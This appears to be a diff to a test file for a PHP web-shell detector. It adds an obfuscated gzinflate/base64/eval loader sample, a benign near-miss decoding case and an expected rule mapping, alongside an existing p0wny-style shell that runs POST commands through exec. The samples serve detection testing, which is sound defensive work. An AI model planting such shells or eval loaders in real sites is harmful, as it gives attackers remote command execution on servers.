@@ -232,6 +232,9 @@ V["spl_manager"] = (
 V["p0wny_b64_cwd"] = (
     "<?php\nif (isset($_POST['cmd'])) {\n    if (!empty($_POST['cwd'])) { @chdir(base64_decode($_POST['cwd'])); }\n    $out = array();\n    exec(base64_decode($_POST['cmd']) . ' 2>&1', $out);\n    echo json_encode(array('stdout' => $out, 'cwd' => base64_encode(getcwd())));\n    exit;\n}\n?><html><body><div id=\"shell\"></div></body></html>\n"
 )
+V["g_wrap_gz_var_eval"] = (
+    "<?php $payload = 'XdBNa8MwDAbge36FKAYlUJp789FTBoNdtnanUIyXyMQsToKdlpTS/z67y9q1R1mPZF4FzEAG7IwcYQX4Ubx/FtsdXpKA1cq3lLU0hsyU6GrcR7CBWwFrwBUmgZIQ3l2la+ciOANVTQ+YDoZyTMCe7Ej6H0n+QDyLy9Mmo+dFh65V3ff97Ynyl9e3YluinLnuj8QPQ9uLmmouVUsPpsRRD7wTmnC/hGtOFz32B3hkv+T6m+wNiaqB0FaicxOhH4tAWGDTLeoiFdAYkhluXDfzJGYT5mxKY5GnXyZf+F0/'; $code = gzinflate(base64_decode($payload)); eval($code); ?>\n"
+)
 
 NEAR: list[tuple[str, str]] = [
     (
@@ -326,6 +329,10 @@ NEAR: list[tuple[str, str]] = [
         "SPAMGEAR_FAMILY_Weevely",
         "<?php\n// builds a CSS class list from letters and renders a label through configurable callables\n$letters = array('a', 'b', 'c', 'd', 'e', 'f');\n$cls = implode('', $letters);\n$label = $render('', $translate('WelcomeBackUser'));\n$after();\n",
     ),
+    (
+        "SPAMGEAR_FAMILY_VarDecoderWrappedKit",
+        "<?php\n// cached page fragment: stored compressed, decoded and printed (never run)\n$blob = $cache->get('fragment');\n$html = gzinflate(base64_decode($blob));\necho $html;\n$tpl = $engine->compile($name);\n",
+    ),
 ]
 
 _EXPECT: list[tuple[str, str]] = [
@@ -396,6 +403,7 @@ _EXPECT: list[tuple[str, str]] = [
     ("pt_panel_glob_literal", "SPAMGEAR_SHELLUI_UploadToClientName"),
     ("spl_manager", "SPAMGEAR_INPUT_ShellOfInput"),
     ("p0wny_b64_cwd", "SPAMGEAR_INPUT_ShellOfInput"),
+    ("g_wrap_gz_var_eval", "SPAMGEAR_FAMILY_VarDecoderWrappedKit"),
 ]
 
 CASES: list[tuple[str, bytes, bool]] = []
